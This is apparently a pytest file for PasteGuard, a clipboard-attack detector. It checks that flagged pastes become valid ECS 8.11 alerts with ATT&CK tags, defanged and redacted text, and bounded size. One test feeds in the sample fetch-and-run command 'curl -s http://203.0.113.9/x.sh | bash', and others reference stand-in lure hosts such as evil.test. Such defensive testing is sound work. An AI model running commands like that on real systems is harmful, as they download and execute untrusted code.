"""The ECS document: every field is one the ECS 8.11 reference defines, with its type; no clean
text ever leaves; large events are shortened into valid JSON."""

from __future__ import annotations

import ipaddress
import json
import re
from dataclasses import replace
from datetime import datetime
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from app.detection import Engine
from app.detection.model import Context, PasteTarget
from app.events import Event, EventKind
from app.forwarding import ecs
from app.forwarding.ecs import to_ecs, to_ecs_json
from tests.app.forwarding.conftest import CLEAN_TEXT, CLICKFIX
from tests.app.forwarding.fakes import T0

# The ECS 8.11 fields PasteGuard writes, with their types and whether ECS says "array"
# (https://www.elastic.co/guide/en/ecs/8.11/ecs-field-reference.html, generated/csv/fields.csv).
ECS_FIELDS: dict[str, tuple[str, bool]] = {
    "@timestamp": ("date", False),
    "message": ("text", False),
    "ecs.version": ("keyword", False),
    "log.level": ("keyword", False),
    "event.action": ("keyword", False),
    "event.category": ("keyword", True),
    "event.dataset": ("keyword", False),
    "event.id": ("keyword", False),
    "event.kind": ("keyword", False),
    "event.module": ("keyword", False),
    "event.outcome": ("keyword", False),
    "event.reason": ("keyword", False),
    "event.risk_score": ("float", False),
    "event.severity": ("long", False),
    "event.type": ("keyword", True),
    "error.message": ("text", False),
    "error.type": ("keyword", False),
    "host.name": ("keyword", False),
    "user.name": ("keyword", False),
    "observer.hostname": ("keyword", False),
    "observer.product": ("keyword", False),
    "observer.vendor": ("keyword", False),
    "observer.version": ("keyword", False),
    "related.hash": ("keyword", True),
    "related.hosts": ("keyword", True),
    "related.ip": ("ip", True),
    "related.user": ("keyword", True),
    "rule.description": ("keyword", False),
    "rule.id": ("keyword", False),
    "rule.name": ("keyword", False),
    "rule.ruleset": ("keyword", False),
    "threat.framework": ("keyword", False),
    "threat.indicator.ip": ("ip", False),
    "threat.indicator.type": ("keyword", False),
    "threat.indicator.url.domain": ("keyword", False),
    "threat.indicator.url.full": ("keyword", False),
    "threat.indicator.url.path": ("keyword", False),
    "threat.indicator.url.scheme": ("keyword", False),
    "threat.tactic.id": ("keyword", True),
    "threat.tactic.name": ("keyword", True),
    "threat.tactic.reference": ("keyword", True),
    "threat.technique.id": ("keyword", True),
    "threat.technique.name": ("keyword", True),
    "threat.technique.reference": ("keyword", True),
    "threat.technique.subtechnique.id": ("keyword", True),
    "threat.technique.subtechnique.name": ("keyword", True),
    "threat.technique.subtechnique.reference": ("keyword", True),
    "url.domain": ("keyword", False),
    "url.full": ("keyword", False),
    "url.original": ("keyword", False),
    "url.path": ("keyword", False),
    "url.scheme": ("keyword", False),
}
# ECS 8.11 allowed values (ecs_flat.yml) and the event types each category expects.
KIND_VALUES = {
    "alert",
    "asset",
    "enrichment",
    "event",
    "metric",
    "state",
    "pipeline_error",
    "signal",
}
OUTCOME_VALUES = {"failure", "success", "unknown"}
EXPECTED_TYPES = {
    "configuration": {"access", "change", "creation", "deletion", "info"},
    "host": {"access", "change", "end", "info", "start"},
    "intrusion_detection": {"allowed", "denied", "info"},
    "process": {"access", "change", "end", "info", "start"},
}
INDICATOR_TYPES = {"url", "domain-name", "ipv4-addr", "ipv6-addr"}
TIMESTAMP = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z")


def leaves(doc: dict[str, Any], prefix: str = "") -> list[tuple[str, Any]]:
    """(dotted field, value) for every ECS leaf; lists of objects (threat.indicator) are walked."""
    out: list[tuple[str, Any]] = []
    for key, value in doc.items():
        path = f"{prefix}.{key}" if prefix else key
        if isinstance(value, dict):
            out += leaves(value, path)
        elif isinstance(value, list) and value and all(isinstance(v, dict) for v in value):
            for item in value:
                out += leaves(item, path)
        else:
            out.append((path, value))
    return out


def check_ecs_types(doc: dict[str, Any]) -> None:
    for path, value in leaves(doc):
        if path.startswith("pasteguard."):
            continue
        assert path in ECS_FIELDS, f"{path} is not an ECS 8.11 field we expect to write"
        kind, array = ECS_FIELDS[path]
        values = value if isinstance(value, list) else [value]
        assert array or not isinstance(value, list), f"{path} should be a single value"
        assert values, f"{path} is an empty list"
        for v in values:
            if kind in ("keyword", "text"):
                assert isinstance(v, str) and v, (path, v)
            elif kind == "long":
                assert isinstance(v, int) and not isinstance(v, bool), (path, v)
            elif kind == "float":
                assert isinstance(v, float), (path, v)
            elif kind == "ip":
                ipaddress.ip_address(v)
            elif kind == "date":
                assert TIMESTAMP.fullmatch(v), (path, v)


def test_flagged_event_is_an_ecs_alert(flagged_event: Event) -> None:
    doc = to_ecs(flagged_event)
    check_ecs_types(doc)
    event = doc["event"]
    assert doc["@timestamp"] == flagged_event.to_record()["time"] == "2026-03-01T09:30:00.123Z"
    assert doc["ecs"]["version"] == ecs.ECS_VERSION
    assert doc["message"] == flagged_event.summary
    assert doc["log"]["level"] == "critical"
    assert event["kind"] == "alert"
    assert event["category"] == ["intrusion_detection"]
    assert event["type"] == ["denied"]
    assert event["action"] == "paste_blocked"
    assert event["outcome"] == "success"
    assert event["severity"] == 73
    assert event["risk_score"] == float(flagged_event.score)
    assert event["module"] == event["dataset"] == "pasteguard"
    assert doc["rule"]["id"] == flagged_event.rules[0]
    assert doc["rule"]["name"] == flagged_event.findings[0]["title"]
    assert doc["pasteguard"]["rules"] == list(flagged_event.rules)
    assert doc["host"]["name"] == flagged_event.host
    assert doc["user"]["name"] == flagged_event.user
    assert doc["observer"] == {
        "hostname": flagged_event.host,
        "product": "PasteGuard",
        "vendor": "PasteGuard",
        "version": flagged_event.app_version,
    }
    assert doc["pasteguard"]["paste"]["target"] == "run_dialog"
    assert doc["pasteguard"]["id"] == 42


def test_attack_techniques_split_into_technique_and_subtechnique(flagged_event: Event) -> None:
    threat = to_ecs(flagged_event)["threat"]
    assert threat["framework"] == "MITRE ATT&CK"
    # ECS: threat.technique.id holds parents (T1204), the sub-technique id its own field.
    assert "T1204" in threat["technique"]["id"]
    assert "T1204.004" in threat["technique"]["subtechnique"]["id"]
    finding_techniques = {f["technique"] for f in flagged_event.findings}
    assert finding_techniques <= set(threat["technique"]["subtechnique"]["id"]) | set(
        threat["technique"]["id"]
    )
    assert all("." not in t for t in threat["technique"]["id"])
    assert "User Execution" in threat["technique"]["name"]
    assert "Malicious Copy and Paste" in threat["technique"]["subtechnique"]["name"]
    assert (
        "https://attack.mitre.org/techniques/T1204/004/"
        in (threat["technique"]["subtechnique"]["reference"])
    )
    assert "TA0002" in threat["tactic"]["id"]


def test_indicators_become_url_and_threat_indicator(flagged_event: Event) -> None:
    doc = to_ecs(flagged_event)
    assert doc["url"]["full"] == "https://evil.test/a.ps1"  # the password is not in it
    assert doc["url"]["domain"] == "evil.test"
    types = {i["type"] for i in doc["threat"]["indicator"]}
    assert types <= INDICATOR_TYPES and "url" in types
    assert "evil.test" in doc["related"]["hosts"]
    assert "captcha.evil.test" in doc["related"]["hosts"]  # the page the lure came from


def test_ip_indicator(engine: Engine) -> None:
    text = "curl -s http://203.0.113.9/x.sh | bash"
    verdict = engine.analyze(text, Context(target=PasteTarget.TERMINAL))
    event = Event.from_verdict(EventKind.PASTE_WARNED, verdict, text, time=T0).with_id(1)
    doc = to_ecs(event)
    check_ecs_types(doc)
    assert {"type": "ipv4-addr", "ip": "203.0.113.9"} in doc["threat"]["indicator"]
    assert doc["related"]["ip"] == ["203.0.113.9"]
    assert doc["url"]["domain"] == "203.0.113.9"


def test_text_and_source_are_forwarded_defanged_and_redacted(flagged_event: Event) -> None:
    raw = to_ecs_json(flagged_event)
    doc = json.loads(raw)
    assert doc["pasteguard"]["text"] == flagged_event.text
    assert "hunter2" not in raw  # the password in the URL
    assert "abcd1234efgh" not in raw  # the token in the lure page's address
    assert "hxxps://" in doc["pasteguard"]["text"]
    assert doc["pasteguard"]["sha256"] == flagged_event.sha256
    assert doc["related"]["hash"] == [flagged_event.sha256]
    assert doc["pasteguard"]["paste"]["source"].startswith("https://captcha.evil.test/verify")


def test_error_event(error_event: Event) -> None:
    doc = to_ecs(error_event)
    check_ecs_types(doc)
    assert doc["event"]["kind"] == "event"
    assert doc["event"]["type"] == ["error"]
    assert doc["event"]["outcome"] == "failure"
    assert doc["log"]["level"] == "error"
    assert doc["error"] == {"message": "database disk image is malformed", "type": "DatabaseError"}
    assert "threat" not in doc and "rule" not in doc and "url" not in doc
    assert doc["message"] == error_event.summary


def test_clean_and_info_text_never_appears(engine: Engine, clean_event: Event) -> None:
    installer = "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh # INFOMARKER"
    verdict = engine.analyze(installer, Context(target=PasteTarget.TERMINAL))
    assert verdict.level.label in ("clean", "info")
    info_event = Event.from_verdict(EventKind.CLIPBOARD_FLAGGED, verdict, installer, time=T0)
    secret = engine.analyze(CLICKFIX)
    secret_event = Event.from_verdict(EventKind.PASTE_BLOCKED, secret, CLICKFIX, secret=True)
    for event, marker in (
        (clean_event, "CLEANMARKER"),
        (info_event, "INFOMARKER"),
        (secret_event, "Verification ID: 4821"),
    ):
        raw = to_ecs_json(event)
        assert marker not in raw
        doc = json.loads(raw)
        assert "text" not in doc["pasteguard"]
        assert doc["event"]["kind"] == ("alert" if event is secret_event else "event")
        check_ecs_types(doc)
    # Even an event built by hand with text and evidence keeps them out when not flagged.
    forged = replace(
        clean_event,
        text=CLEAN_TEXT,
        findings=({"rule_id": "X", "title": "t", "evidence": CLEAN_TEXT},),
        indicators=({"kind": "url", "value": "https://CLEANMARKER.test/"},),
    )
    assert "CLEANMARKER" not in to_ecs_json(forged)


def test_every_kind_is_categorised() -> None:
    for kind in EventKind:
        categories, types, outcome = ecs.KINDS[kind]
        assert outcome in OUTCOME_VALUES
        if kind == EventKind.ERROR:
            continue  # ECS lists "error" under no category we could use; see ecs.KINDS
        for category in categories:
            assert set(types) <= EXPECTED_TYPES[category], (kind, category, types)


def test_each_kind_and_level_gives_valid_ecs() -> None:
    for kind in EventKind:
        for level in ("clean", "info", "suspicious", "malicious"):
            doc = to_ecs(Event(kind=kind, level=level, summary="s", time=T0, id=1))
            check_ecs_types(doc)
            assert doc["event"]["kind"] in KIND_VALUES
            flagged = level in ("suspicious", "malicious")
            assert doc["event"]["kind"] == ("alert" if flagged else "event")
            lure = kind in ecs.LURE_KINDS and flagged
            has_lure = "T1204.004" in doc.get("threat", {}).get("technique", {}).get(
                "subtechnique", {}
            ).get("id", [])
            assert has_lure == lure, (kind, level)


def test_remote_access_names_t1219() -> None:
    doc = to_ecs(Event(kind=EventKind.REMOTE_ACCESS_STARTED, level="suspicious", time=T0))
    assert doc["threat"]["technique"]["id"] == ["T1219"]
    assert doc["event"]["category"] == ["process"]
    assert doc["event"]["type"] == ["start"]


def test_event_id_is_stable_and_distinct(flagged_event: Event) -> None:
    first = to_ecs(flagged_event)["event"]["id"]
    assert first == to_ecs(flagged_event)["event"]["id"]
    assert first != to_ecs(replace(flagged_event, id=43))["event"]["id"]
    assert first != to_ecs(replace(flagged_event, host="other-pc"))["event"]["id"]


def test_timestamp_milliseconds_are_exact() -> None:
    for micro in (0, 999, 1000, 38000, 999999):
        when = T0.replace(microsecond=micro)
        doc = to_ecs(Event(kind="started", time=when))
        assert doc["@timestamp"] == Event(kind="started", time=when).to_record()["time"]


def test_detail_keys_with_dots_do_not_break_the_document() -> None:
    event = Event(kind="error", details={"a": 1, "a.b": 2, "nested": {"x.y": [1, {"p.q": 3}]}})
    doc = to_ecs(event)
    assert doc["pasteguard"]["details"] == {"a": 1, "a_b": 2, "nested": {"x_y": [1, {"p_q": 3}]}}


def test_a_mapping_that_is_not_a_dict_is_still_an_object() -> None:
    """to_ecs tests plain dicts with a C-level check first (an ABC check per value was a third
    of its time); any other Mapping still nests and has its dotted keys made safe."""
    from types import MappingProxyType

    event = Event(kind="error", details={"frozen": MappingProxyType({"x.y": 1, "z": "t"})})
    assert to_ecs(event)["pasteguard"]["details"] == {"frozen": {"x_y": 1, "z": "t"}}
    assert ecs._flatten({"a": MappingProxyType({"b": 1}), "c": "text", "d": None}) == {
        "a.b": 1, "c": "text", "d": None,
    }  # fmt: skip


def test_details_that_are_not_json_are_written_as_text() -> None:
    when = datetime(2026, 1, 2, 3, 4, 5)
    doc = json.loads(to_ecs_json(Event(kind="error", details={"when": when})))
    assert doc["pasteguard"]["details"]["when"] == str(when)


def test_large_event_is_shortened_into_valid_json(flagged_event: Event) -> None:
    big = replace(flagged_event, text="A" * 16000 + " tail", summary="S" * 3000)
    full = to_ecs_json(big)
    assert len(full.encode()) > 16000
    for limit in (8192 - 200, 4096, 2048):
        out = to_ecs_json(big, max_bytes=limit)
        assert len(out.encode()) <= limit, limit
        doc = json.loads(out)
        assert doc["pasteguard"]["truncated"] is True
        assert doc["event"]["action"] == "paste_blocked"
        assert doc["rule"]["id"] == flagged_event.rules[0]
    kept = json.loads(to_ecs_json(big, max_bytes=8000))["pasteguard"]["text"]
    assert kept.startswith("AAAA") and kept.endswith("truncated for forwarding]")


def test_a_bursts_correction_over_syslogs_limit_keeps_its_text_count_and_revision(
    flagged_event: Event,
) -> None:
    """A lure written in a loop with a counter: its event keeps the versions (the first and the
    last up to 16 KiB each). Over syslog's 8 KiB the text was cut first and then the whole of
    `pasteguard.details` went, with the count and the revision a SIEM keeps the last version
    by. Now the versions go first, then only the bulky details."""
    versions = [{"text": "B" * 6000 + f" {i}", "whole": True} for i in range(3)]
    details = {"writes": 250, "versions": 250, "revision": 2, "burst_ended": True,
               "version_texts": versions, "layers": ["L" * 3000]}  # fmt: skip
    big = replace(flagged_event, text="A" * 3000, details=details)
    doc = json.loads(to_ecs_json(big, max_bytes=8192 - 200))
    pg = doc["pasteguard"]
    assert pg["text"] == "A" * 3000 and pg["truncated"] is True
    assert pg["details"]["writes"] == 250 and pg["details"]["revision"] == 2
    assert "version_texts" not in pg["details"] and "layers" not in pg["details"]
    roomy = json.loads(to_ecs_json(big, max_bytes=20000))["pasteguard"]
    assert [v["text"][-2:] for v in roomy["details"]["version_texts"]] == [" 2"]  # the last


def test_small_event_is_not_touched(flagged_event: Event) -> None:
    full = to_ecs_json(flagged_event)
    assert to_ecs_json(flagged_event, max_bytes=len(full.encode())) == full
    assert "truncated" not in json.loads(full)["pasteguard"]


def test_lone_surrogates_survive_as_json_escapes(flagged_event: Event) -> None:
    odd = replace(flagged_event, text="bad \ud800 surrogate")
    encoded = ecs.encode(to_ecs_json(odd))
    assert json.loads(encoded.decode("utf-8"))["pasteguard"]["text"] == "bad \ud800 surrogate"


@settings(max_examples=60, deadline=None)
@given(
    text=st.text(max_size=20000),
    summary=st.text(max_size=2000),
    source=st.one_of(st.none(), st.text(max_size=300), st.just("https://[::1/x")),
    rules=st.lists(st.text(max_size=40), max_size=5),
    kind=st.sampled_from([*list(EventKind), "something_new"]),
    level=st.sampled_from(["clean", "info", "suspicious", "malicious", "weird"]),
)
def test_any_event_gives_bounded_valid_json(
    text: str, summary: str, source: str | None, rules: list[str], kind: str, level: str
) -> None:
    event = Event(
        kind=kind,
        level=level,
        text=text,
        summary=summary,
        source=source,
        rules=tuple(rules),
        findings=tuple({"rule_id": r, "title": r, "technique": "T1059.001"} for r in rules),
        indicators=({"kind": "url", "value": source or "x"},),
        time=T0,
    )
    out = to_ecs_json(event, max_bytes=8000)
    assert len(ecs.encode(out)) <= 8000
    doc = json.loads(ecs.encode(out).decode("utf-8"))
    assert doc["event"]["action"] == kind
    if level not in ("suspicious", "malicious") and text:
        assert "text" not in doc["pasteguard"]


def test_an_official_installer_logged_as_info_names_no_attack_technique(engine: Engine) -> None:
    installer = "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh"
    verdict = engine.analyze(installer, Context(target=PasteTarget.TERMINAL))
    assert verdict.level.label == "info"
    assert all(f.technique != "T1204.004" for f in verdict.findings)
    doc = to_ecs(Event.from_verdict(EventKind.CLIPBOARD_FLAGGED, verdict, installer, time=T0))
    assert "threat" not in doc


def test_nested_details_keep_their_shape_and_leave_out_nulls() -> None:
    event = Event(kind="started", details={"a": {"b": None, "c": 1}, "d": None, "e": [1, None]})
    assert to_ecs(event)["pasteguard"]["details"] == {"a": {"c": 1}, "e": [1, None]}
